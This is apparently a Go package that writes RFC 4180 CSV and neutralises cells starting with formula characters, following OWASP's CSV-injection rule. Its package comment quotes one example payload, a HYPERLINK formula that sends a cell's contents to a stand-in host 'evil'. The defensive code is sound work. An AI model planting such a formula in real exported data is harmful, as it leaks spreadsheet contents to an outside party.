// Package csvout writes CSV (RFC 4180, CRLF) that is safe to open in a spreadsheet: a cell
// that would start a formula is neutralised by OWASP's rule, so a name such as
// `=HYPERLINK("http://evil/?"&A1)` read from the graph stays text.
package csvout

import (
	"encoding/csv"
	"io"
)

// Writer is encoding/csv's writer with every cell passed through Cell.
type Writer struct{ w *csv.Writer }

// NewWriter writes CSV with CRLF line ends to w.
func NewWriter(w io.Writer) *Writer {
	cw := csv.NewWriter(w)
	cw.UseCRLF = true
	return &Writer{w: cw}
}

// Write writes one record, its cells neutralised.
func (w *Writer) Write(record []string) error {
	safe := make([]string, len(record))
	for i, c := range record {
		safe[i] = Cell(c)
	}
	return w.w.Write(safe)
}

// WriteAll writes records and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.w.Flush()
	return w.w.Error()
}

// Flush writes what is buffered; Error says whether a write or flush failed.
func (w *Writer) Flush()       { w.w.Flush() }
func (w *Writer) Error() error { return w.w.Error() }

// Cell returns s with a single quote in front when it starts with a character a spreadsheet
// reads as the start of a formula or a line: = + - @, tab, carriage return or line feed
// (OWASP, CSV Injection). The quote shows in the cell; the text after it is unchanged.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n':
		return "'" + s
	}
	return s
}
